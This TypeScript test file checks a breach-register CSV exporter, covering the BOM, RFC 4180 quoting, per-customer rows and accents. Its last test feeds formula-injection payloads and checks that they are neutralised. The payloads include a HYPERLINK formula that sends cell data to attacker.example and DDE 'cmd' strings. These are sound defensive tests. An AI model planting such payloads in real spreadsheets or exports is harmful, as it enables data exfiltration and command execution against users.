import { breachRegisterCsv } from '../../client/http/breach-register-csv';
import type { BreachRegisterEntry } from '../../records/breach-register';

const header = [
  'incident_id',
  'aware_at',
  'detected_at',
  'incident_status',
  'contained',
  'summary',
  'data_categories',
  'subjects_approx',
  'measures',
  'customer_id',
  'notice_status',
  'notified_at',
  'acknowledged_at',
  'controller_deadline_at',
  'contractual_deadline_at',
  'notice_problem',
  'closed_at',
  'final_report',
];

/** RFC 4180, written here from the RFC rather than with the library under test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') {
        quoted = false;
      } else {
        cell += char;
      }
    } else if (char === '"' && cell === '') {
      quoted = true;
    } else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else if (char === '\r' || char === '\n') {
      throw new Error(`a bare line break outside quotes at ${i}: the row would be split`);
    } else {
      cell += char;
    }
  }
  if (quoted) throw new Error('an unterminated quoted cell');
  if (cell !== '' || row.length > 0) throw new Error('the last record has no CRLF');
  return rows;
}

const bom = '\uFEFF';
const withoutBom = (csv: string) => {
  expect(csv.startsWith(bom)).toBe(true);
  return csv.slice(bom.length);
};

type Notice = BreachRegisterEntry['notifications'][number];

/** A notice with nothing recorded yet but what is given. */
function notice(customerId: string, facts: Partial<Notice>): Notice {
  return {
    customerId,
    status: 'pending',
    notifiedAt: null,
    acknowledgedAt: null,
    controllerDeadlineAt: null,
    contractualDeadlineAt: null,
    problem: null,
    ...facts,
  } as Notice;
}

function entry(overrides: Partial<BreachRegisterEntry> = {}): BreachRegisterEntry {
  return {
    incidentId: 'INC-2026-001',
    awareAt: '2026-01-05T09:00:00.000Z',
    detectedAt: '2026-01-05T08:30:00.000Z',
    summary: 'Une clé d’API a été publiée.',
    dataCategories: ['names', 'email addresses'],
    subjectsApprox: 420,
    measures: ['The key was revoked'],
    status: 'open',
    contained: false,
    finalReport: null,
    closedAt: null,
    notifications: [],
    updates: [],
    ...overrides,
  };
}

describe('the breach register as CSV', () => {
  test('starts with a UTF-8 byte-order mark, then the same header as before', () => {
    const csv = breachRegisterCsv([]);
    expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(withoutBom(csv)).toBe(`${header.join(',')}\r\n`);
  });

  test('one line per incident and customer, every value in its column, accents intact', () => {
    const csv = breachRegisterCsv([
      entry({
        summary: 'Une clé d’API a été publiée; «Datalek» bij één klant, "quoted", and\na second line',
        contained: true,
        notifications: [
          notice('cust-fr', {
            status: 'notified',
            notifiedAt: '2026-01-05T10:00:00.000Z',
            acknowledgedAt: '2026-01-05T11:00:00.000Z',
            controllerDeadlineAt: '2026-01-08T10:00:00.000Z',
            contractualDeadlineAt: '2026-01-06T08:00:00.000Z',
          }),
          notice('cust-nl', { status: 'undeliverable', problem: '550 mailbox unavailable, try later' }),
        ],
      }),
      entry({
        incidentId: 'INC-2026-002',
        summary: 'Une clé d’API a été publiée.\nSeconde ligne',
        subjectsApprox: undefined,
        status: 'closed',
        closedAt: '2026-02-01T00:00:00.000Z',
        finalReport: 'Root cause: a leaked key.\r\nFixed.',
      }),
    ]);
    const summary = 'Une clé d’API a été publiée; «Datalek» bij één klant, "quoted", and\na second line';
    const [head, ...rows] = parseCsv(withoutBom(csv));
    expect(head).toEqual(header);
    expect(rows).toEqual([
      [
        'INC-2026-001',
        '2026-01-05T09:00:00.000Z',
        '2026-01-05T08:30:00.000Z',
        'open',
        'true',
        summary,
        'names; email addresses',
        '420',
        'The key was revoked',
        'cust-fr',
        'notified',
        '2026-01-05T10:00:00.000Z',
        '2026-01-05T11:00:00.000Z',
        '2026-01-08T10:00:00.000Z',
        '2026-01-06T08:00:00.000Z',
        '',
        '',
        '',
      ],
      [
        'INC-2026-001',
        '2026-01-05T09:00:00.000Z',
        '2026-01-05T08:30:00.000Z',
        'open',
        'true',
        summary,
        'names; email addresses',
        '420',
        'The key was revoked',
        'cust-nl',
        'undeliverable',
        '',
        '',
        '',
        '',
        '550 mailbox unavailable, try later',
        '',
        '',
      ],
      [
        'INC-2026-002',
        '2026-01-05T09:00:00.000Z',
        '2026-01-05T08:30:00.000Z',
        'closed',
        'false',
        'Une clé d’API a été publiée.\nSeconde ligne',
        'names; email addresses',
        '',
        'The key was revoked',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '2026-02-01T00:00:00.000Z',
        'Root cause: a leaked key.\r\nFixed.',
      ],
    ]);
    // The accents are UTF-8 on the wire, as Excel reads them after the byte-order mark.
    expect(Buffer.from(csv, 'utf8').includes(Buffer.from('é', 'utf8'))).toBe(true);
  });

  test.each([
    ['=', '=HYPERLINK("http://attacker.example/?"&A1,"details")'],
    ['+', '+32 2 555 01 23'],
    ['-', "-2+3+cmd|' /C calc'!A0"],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
    ['full-width =', '\uFF1D1+1'],
  ])('a cell beginning with %s is prefixed with a quote, so no spreadsheet runs it', (_case, text) => {
    const csv = breachRegisterCsv([
      entry({
        summary: text,
        dataCategories: [text],
        measures: [text],
        finalReport: text,
        notifications: [notice('cust-1', { status: 'undeliverable', problem: text })],
      }),
    ]);
    const [, row] = parseCsv(withoutBom(csv));
    for (const column of ['summary', 'data_categories', 'measures', 'notice_problem', 'final_report']) {
      expect(row![header.indexOf(column)]).toBe(`'${text}`);
    }
    // Nothing else is touched: a formula character inside a cell is text already.
    const [, plain] = parseCsv(withoutBom(breachRegisterCsv([entry({ summary: `Costs: 1+1=2 @ ${text}` })])));
    expect(plain![header.indexOf('summary')]).toBe(`Costs: 1+1=2 @ ${text}`);
  });
});
